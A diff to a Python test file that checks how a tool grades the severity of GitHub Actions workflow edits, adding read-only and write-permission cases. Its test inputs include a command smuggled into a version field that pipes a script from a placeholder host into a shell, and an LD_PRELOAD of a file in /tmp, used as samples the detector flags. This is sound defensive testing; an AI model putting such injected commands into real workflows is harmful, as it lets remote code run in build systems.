@@ -188,6 +188,9 @@ def test_inert_workflow_edits_are_reported_but_not_flagged() -> None:
         "        - '3.12'",
         "    - cron: '0 0 * * *'",
         "# a comment",
+        "permissions:",
+        "  contents: read",
+        "on: [push, pull_request]",
     )
     assert _workflow_severity(settings) == "info"
     removed = FileChange(".github/workflows/old.yml", ChangeStatus.DELETED, deletions=30)
@@ -203,6 +206,7 @@ def test_workflow_edits_that_can_run_something_new_are_still_flagged() -> None:
         ("    runs-on: self-hosted",),
         ('        python-version: ["3.10; curl https://x.example | sh"]',),
         ("    env:", "      LD_PRELOAD: /tmp/x.so"),
+        ("permissions:", "  contents: write"),
         ("      - run: |", "          - master"),
     ]:
         assert _workflow_severity(added(".github/workflows/ci.yml", *lines)) == "medium", lines
